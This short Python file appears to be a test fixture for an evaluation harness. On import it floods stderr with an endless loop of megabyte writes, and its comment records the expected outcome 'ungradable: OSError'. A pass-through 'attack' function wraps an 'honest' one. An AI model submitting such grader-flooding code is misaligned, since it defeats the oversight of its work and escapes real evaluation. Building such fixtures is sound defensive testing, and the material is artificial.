"""Floods what it prints while it is imported, past Python, until nobody takes any more."""
# ends: ungradable: OSError

import os

while True:
    os.write(2, b"x" * 1_000_000)


def attack(honest, *args, **kwargs):
    return honest(*args, **kwargs)
